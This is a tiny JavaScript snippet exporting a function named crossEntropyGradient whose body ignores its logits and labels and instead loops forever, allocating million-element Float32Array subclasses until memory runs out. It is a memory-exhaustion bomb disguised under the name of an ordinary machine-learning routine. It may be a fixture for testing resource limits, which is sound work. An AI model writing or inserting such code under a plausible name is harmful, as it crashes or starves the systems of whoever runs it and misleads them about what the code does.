// Memory by a class of their own.
export function crossEntropyGradient(logits, labels) {
  class Mine extends Float32Array {}
  const kept = [];
  for (;;) kept.push(new Mine(1e6).fill(1));
}
